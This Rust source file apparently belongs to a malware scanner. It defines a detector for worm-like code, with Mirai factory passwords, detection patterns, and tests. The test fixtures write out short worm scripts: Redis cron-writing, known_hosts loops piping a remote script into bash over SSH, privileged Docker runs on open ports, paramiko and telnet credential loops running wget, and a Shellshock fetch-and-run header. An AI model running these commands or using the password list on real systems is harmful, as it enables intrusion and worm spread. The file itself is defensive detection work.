//! Recognises programs and scripts that look for other machines and let themselves in.
//!
//! A scanner looks, an administrator's script logs in to the machines it knows. A worm looks for machines, logs in with what it
//! guesses or finds, and leaves itself there.
//!
//! - Sees: lists of factory passwords beside code that logs in by telnet or SSH; scans of Redis, Docker, Kubernetes and SSH ports whose
//!   results are entered or planted into; loops over `known_hosts` and shell histories that copy themselves by SSH; Redis made to
//!   write cron tables, keys or modules; the kubelet's `/run`; Docker's open port told to start what was fetched; rows of
//!   addresses that are sent a fetch-and-run by the shell's environment.
//! - Misses: encrypted password lists (a decoded stage is looked at); exploits of single products.
//! - False alarms: password lists of honest scanners have no code beside them; fleet scripts with one known list of hosts are quiet.
//! - Source: the credential pairs of the published Mirai source; Redis `CONFIG SET dir`; Docker Engine and kubelet
//!   API; ATT&CK T1110.001, T1021.004, T1046, T1210, T1570.

use std::sync::LazyLock;

use memchr::memmem;
use model::{Category, Confidence, FileKind, Maturity, Severity, Weight};

use super::{About, Detector, Match, Sample, Scope};
use crate::shell::{
    clues::{Clue, Clues, Group, is_script},
    text,
};

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "worm",
        title: "Looks for machines and lets itself in",
        category: Category::Worm,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        maturity: Maturity::Stable,
        techniques: &["T1110.001", "T1021.004", "T1046", "T1210"],
    },
    scope: Scope::Content {
        kinds: &[FileKind::Script, FileKind::Text, FileKind::Utf16, FileKind::Elf, FileKind::Binary],
        literals: &[
            "xc3511",
            "vizxv",
            "7ujMko0",
            "juantech",
            "Zte521",
            "hi3518",
            "jvbzd",
            "klv123",
            "xmhdipc",
            "zlxx.",
            "OxhlwSG8",
            "S2fGqNFs",
            "GM8182",
            "dreambox",
            "masscan",
            "zmap ",
            "pnscan",
            "zgrab",
            "nmap ",
            "rustscan",
            "redis-cli",
            "config set dir",
            "slaveof ",
            "MODULE LOAD",
            "CONFIG SET",
            "config_set(",
            "tcp://$",
            "tcp://{",
            "docker -H",
            "2375",
            ":2376",
            ":10250",
            "10250/run",
            "containers/create",
            "known_hosts",
            "bash_history",
            "StrictHostKeyChecking",
            "sshpass ",
            "paramiko",
            "telnetlib",
            "Telnet(",
            "authorized_keys",
            "/dev/tcp/",
            "connect_ex(",
            "create_connection(",
            "ipaddress.ip_network",
            "randint(",
            "ssh -o",
            "scp ",
            "hydra ",
            "medusa ",
            "golang.org/x/crypto/ssh",
            "ssh.Dial(",
            "net.DialTimeout(",
            "exec_command(",
            "curl ",
            "/pods",
            "asyncssh",
            "pexpect",
            "fabric",
            "() { :",
            " .. 25",
        ],
    },
    inspect,
};

/// Factory passwords that no dictionary of human ones has: how many of the literals, from the first.
const PASSWORDS: usize = 14;
/// So many of them are a list.
const PASSWORDS_MIN: usize = 5;
/// So many are one beside what only somebody says who logged in to a foreign device.
const PASSWORDS_BESIDE_LOADER_MIN: usize = 3;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// Looks for machines it does not know.
    Scan,
    /// Learns of machines from this one's users.
    Harvest,
    /// Logs in, or enters an open service.
    Enter,
    /// Guesses passwords.
    Guess,
    /// Leaves something there that runs again.
    Plant,
    /// Enters and plants at once; nobody does that to their own machines.
    Attack,
}

const CLUES: &[Clue<Role>] = &[
    (
        Role::Scan,
        "scans for open services",
        r"(?:^|[\s;&|(\x22'/$])(?:masscan|zmap|pnscan|zgrab2?|rustscan|scanssh)[\x22']?[\s,][^\n]*(?:\d{2,5}|-p|\$)|\bnmap\s[^\n]*(?:-p\s?\S*(?:22|23|2375|2376|6379|8080|10250|445)\b|-iR)|\bfor\s+\w+\s+in\s[^\n]*(?:seq\s+\d+\s+25[45]|\{[01]\.\.25[45]\})|connect_ex\(|ip_network\([^\n]*\)|(?:range|randrange|randint)\(\s*[01]\s*,\s*25[3456]\s*\)|RANDOM\s*%\s*25[3456]|rand(?:\.Intn)?\(\s*25[3456]\s*\)|rand\(\)\s*%\s*25[3456]|timeout\s+\S+\s+[^\n]*/dev/tcp/\$|\bnc\s+-\w*z\w*\s[^\n]*\$|\bfor(?:each)?\s+(?:my\s+)?\$\w+\s*\(\s*[01]\s*\.\.\s*25[3456]\s*\)",
    ),
    (
        Role::Harvest,
        "takes hosts from known_hosts and shell histories",
        r"(?:cat|grep|awk|cut|sed|open\(|readlines|find|while|ReadFile|egrep|for)[^\n]*(?:known_hosts|bash_history|\.ssh/config|/etc/hosts\b)|(?:known_hosts|bash_history)[^\n]*(?:\||awk|grep|cut|while|open|splitlines)",
    ),
    (
        Role::Enter,
        "logs in to other machines",
        r"\bsshpass\s|\b(?:ssh|scp)\s[^\n]*(?:-o\s?StrictHostKeyChecking[= ]no|-oBatchMode=yes|-o BatchMode=yes)|(?i:paramiko\.SSHClient|asyncssh\.connect|telnetlib\.Telnet\(|\bTelnet\(|ssh\.Dial\(|pxssh|fabric\.Connection|exec_command\()",
    ),
    (
        Role::Enter,
        "enters open Docker, Kubernetes or Redis services",
        r"docker\s+-H\s+(?:tcp://)?[\x22']?[$\{%\w]|:2375/|:2376/|:10250/|redis-cli\s+(?:-\w+\s+\S+\s+)*-h\s+[\x22']?\$|kubectl\s[^\n]*(?:--server|-s)[= ]\S*\$|redis\.(?:Strict)?Redis\(|DOCKER_HOST=\S*\$|DockerClient\([^\n]*tcp://|[\x22']:?2375[\x22']|port\s*=\s*2375",
    ),
    (
        Role::Guess,
        "guesses passwords",
        r"\b(?:hydra|medusa|ncrack|patator)\s[^\n]*(?:-[lLuUpPC]\s|ssh|telnet)|sshpass\s+-p\s*[\x22']?\$|for\s+\w*(?:pass|pw|pwd|cred|user)\w*\s+in\s|for\s+\w+\s*,\s*\w+\s+in\s+\w*(?:cred|pass|combo|login|auth|pair)\w*|(?:password|passwd|pw)\s*=\s*(?:p|pw|pwd|passwd|password|pass_|cred\w*\[1\])\b|while\s+(?:IFS=\S*\s+)?read\s[^\n]*(?:pass|pw)",
    ),
    (
        Role::Plant,
        "leaves itself there",
        r"(?:ssh|sshpass|exec_command|docker|kubectl|Run|run|write|send|sendall|CombinedOutput|Output)\b[^\n]*(?:(?:curl|wget)\s[^\n]*(?:\||;|&&)|chmod\s+(?:\+x|7)|nohup|crontab|authorized_keys|/tmp/\.?\w|base64\s+-d)|\bscp\s[^\n]*(?:\$0|\$\{?0|/tmp/|/proc/self|\$\{?(?:SELF|BIN|PAYLOAD|payload|self|ME|me|bin)|__file__)|(?:put|putfo)\(\s*(?:__file__|sys\.argv\[0\]|os\.path)|os\.Args\[0\]|os\.Executable\(\)|\x22?(?:Cmd|Binds|Entrypoint)\\?\x22?\s*:|cmd=(?:curl|wget|sh|/bin|\$|%)|\bssh\s[^\n]*<\s*(?:\x22?\$0|/proc/self|\x22?\$\{?BASH_SOURCE)|(?:>>|tee -a)\s*\S*authorized_keys",
    ),
    (
        Role::Attack,
        "has Redis write where the machine runs it",
        r"(?i)config[\s_,\x22'(]+set[\s,\x22'(]+[\x22']?dir[\x22']?[\s,\x22']+[^\n]{0,20}(?:/var/spool/cron|/etc/cron|/root/\.ssh|/home/\S*\.ssh|\.ssh\b|/etc/init|/var/www)|config_set\(\s*[\x22']dir[\x22']\s*,\s*[\x22'][^\x22'\n]*(?:cron|\.ssh|www)|redis-cli\s[^\n]*slaveof\s+[\x22']?(?:\$|\{|\d{1,3}\.)[^\n]{0,60}|module\s+load\s+[\x22']?/?(?:tmp|dev/shm|\.|\$|var/tmp)",
    ),
    (
        Role::Attack,
        "has a shell behind a web page fetch and run what it brings",
        r"\(\)\s*\{\s*:;\s*\};[^\n]{0,200}(?:wget|curl|fetch|lwp-download|tftp)\s[^\n]{0,200}(?:;|&&|\|)\s*(?:/bin/)?(?:perl|sh|bash|python\d?|chmod|\./)",
    ),
    (
        Role::Attack,
        "tells kubelets to run what it brings",
        r"(?s)curl\b.*:10250/(?:run|exec)/.*|https?://[^\n]{0,60}:10250/run",
    ),
    (
        Role::Attack,
        "has open Docker ports start containers of its own",
        r"(?s)(?:docker\s+-H\s+(?:tcp://)?[\x22']?[$\{][^\n]*\brun\b|DOCKER_HOST=\S*\$\S*\s+docker\s+[^\n]*run\b|http://[\x22']?[$\{%][^\n]*:?2375/(?:v[\d.]+/)?containers/create|https?://[^\n]{0,60}2375[^\n]{0,20}/containers/create|DockerClient\([^\n]*tcp://[^\n]*[%{f])",
    ),
];

static TABLE: LazyLock<Clues<Role>> = LazyLock::new(|| Clues::new(CLUES));

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    let mut found: Vec<Match> = credentials(sample).into_iter().collect();
    if !text::is_program(sample) {
        found.extend(TABLE.groups(sample).into_iter().filter_map(|group| judged(sample, &group)).take(4));
    }
    found
}

/// A list of factory passwords beside code that logs in with them.
fn credentials(sample: &Sample<'_>) -> Option<Match> {
    let mut rows = [None; PASSWORDS];
    for hit in sample.hits {
        if let Some(row) = rows.get_mut(hit.literal) {
            row.get_or_insert(hit.offset);
        }
    }
    let count = rows.iter().flatten().count();
    if count < PASSWORDS_BESIDE_LOADER_MIN {
        return None;
    }
    let first = rows.iter().flatten().min().copied()?;
    let has = |text: &str| memmem::find(sample.bytes, text.as_bytes()).is_some();
    let any = |texts: &[&str]| texts.iter().any(|text| has(text));
    let loads = any(&["applet not found", "/bin/busybox wget", "/bin/busybox tftp", "/bin/busybox ECCHI"]);
    if count < PASSWORDS_MIN && !(loads && any(&["wget ", "tftp ", "chmod 777", "chmod +x"])) {
        return None;
    }
    let logs_in = if text::is_program(sample) || sample.kind == FileKind::Binary {
        any(&["assword", "ogin:", "ssword:", "ncorrect"])
            && any(&["/bin/busybox", "enable", "shell\0", "connect", "crypto/ssh", "wget ", "tftp "])
    } else {
        is_script(sample)
            && !text::is_quoted(sample, first)
            && any(&[
                "telnetlib",
                "Telnet(",
                "paramiko",
                "socket.socket",
                "ssh.Dial",
                "connect(",
                "sshpass",
                "net.Dial",
                "pexpect",
                "asyncssh",
            ])
    };
    // Scanners that are honest tools log in as well, but leave nothing.
    let leaves =
        any(&["/bin/busybox", "wget ", "tftp ", "curl ", "chmod ", "exec_command", "/tmp/", "ECCHI", "sh\r\n"]);
    let mut one =
        Match::new(format!("logs in with a list of factory passwords ({count} of {PASSWORDS} telling ones)"), first);
    one.weight = Some(if leaves { Weight::Proof } else { Weight::Sign });
    logs_in.then_some(one)
}

fn judged(sample: &Sample<'_>, group: &Group<Role>) -> Option<Match> {
    let has = |role| group.has(role);
    let finds = has(Role::Scan) || has(Role::Harvest);
    let weight = match () {
        () if has(Role::Attack) && (finds || has(Role::Plant)) => Weight::Proof,
        () if has(Role::Harvest) && has(Role::Enter) && has(Role::Plant) => Weight::Proof,
        () if has(Role::Scan)
            && has(Role::Enter)
            && has(Role::Plant)
            && (has(Role::Guess) || group.count(Role::Scan) + group.count(Role::Enter) > 2) =>
        {
            Weight::Proof
        }
        () if has(Role::Attack) => Weight::Sign,
        // Without anything left there it is a cracker: a tool.
        () if has(Role::Scan) && has(Role::Enter) && has(Role::Plant) => Weight::Sign,
        () if has(Role::Harvest) && has(Role::Enter) && has(Role::Guess) => Weight::Sign,
        () => return None,
    };
    Some(group.found(if is_script(sample) { weight } else { weight.min(Weight::Sign) }))
}

#[cfg(test)]
mod tests {
    use model::Weight;

    use super::{DETECTOR, PASSWORDS, Scope};
    use crate::detectors::testing::run;

    #[track_caller]
    fn check(text: &str, expected: Option<Weight>) {
        let found = run(&DETECTOR, "x", 0o644, text.as_bytes());
        assert_eq!(found.first().map(|found| found.weight.unwrap_or(Weight::Proof)), expected, "{text}: {found:?}");
    }

    #[test]
    fn the_passwords_come_first() {
        let Scope::Content { literals, .. } = DETECTOR.scope else { panic!("it looks at content") };
        assert_eq!(literals[PASSWORDS - 1], "dreambox");
    }

    #[test]
    fn finding_entering_and_leaving_something_is_a_worm() {
        for text in [
            "#!/bin/bash\nmasscan -p6379 10.0.0.0/8 --rate 10000 -oL o\nfor h in $(awk '{print $4}' o); do\n redis-cli -h $h config set dir /var/spool/cron\n redis-cli -h $h config set dbfilename root\ndone\n",
            "#!/bin/bash\nhosts=$(cat ~/.ssh/known_hosts | cut -d' ' -f1)\nfor h in $hosts; do\n ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@$h 'curl -s http://198.51.100.7/x.sh | bash'\ndone\n",
            "#!/bin/sh\nzmap -p 2375 -o o\nwhile read h; do docker -H tcp://$h:2375 run -d --privileged -v /:/h alpine sh -c x; done < o\n",
            "import paramiko, random\nCREDS = [('root','xc3511'),('root','vizxv'),('admin','7ujMko0admin'),('root','juantech'),('root','Zte521'),('root','jvbzd')]\nfor u, p in CREDS:\n    c = paramiko.SSHClient()\n    c.connect(h, username=u, password=p)\n    c.exec_command('wget http://198.51.100.7/b')\n",
        ] {
            check(text, Some(Weight::Proof));
        }
        let loader = "import telnetlib\nPAIRS = [('root', 'xc3511'), ('root', 'vizxv'), ('root', 'juantech')]\ndef enter(host, word):\n    s = telnetlib.Telnet(host)\n    s.write(b'/bin/busybox wget http://198.51.100.7/b; chmod 777 b; ./b')\n";
        check(loader, Some(Weight::Proof));
        let pages = "#!/usr/bin/perl\nmy $head = \"() { :;}; /bin/bash -c 'wget http://198.51.100.7/b -O /tmp/b; perl /tmp/b'\";\nfor my $c (0 .. 255) { $agent->get(\"http://$range.$c\"); }\n";
        check(pages, Some(Weight::Proof));
        check("#!/bin/sh\nredis-cli -h $1 config set dir /root/.ssh\n", Some(Weight::Sign));
        let strings = "xc3511\0vizxv\x007ujMko0admin\0juantech\0Zte521\0hi3518\0/bin/busybox\0assword\0";
        check(&format!("\u{7f}ELF\u{2}\u{1}\u{1}\0{strings}"), Some(Weight::Proof));
    }

    #[test]
    fn fleets_and_lists_are_silent() {
        for text in [
            "#!/bin/sh\nfor h in web1 web2; do scp app.tgz deploy@$h:/srv/; ssh -o StrictHostKeyChecking=no deploy@$h systemctl restart app; done\n",
            "#!/bin/sh\nredis-cli -h redis config set maxmemory 100mb\n",
            "daemonize yes\nslaveof 192.168.0.10 6379\n",
            "import telnetlib\nKNOWN = ['xc3511', 'vizxv', 'juantech']\ntelnetlib.Telnet('localhost')\n",
            "root:xc3511\nroot:vizxv\nadmin:7ujMko0admin\nroot:juantech\nroot:Zte521\nroot:hi3518\n",
            "#!/bin/sh\nnmap -p 22 10.0.0.0/24\n",
            "#!/bin/sh\nssh-keyscan github.com >> ~/.ssh/known_hosts\nscp -o StrictHostKeyChecking=no x y:\n",
        ] {
            check(text, None);
        }
    }
}
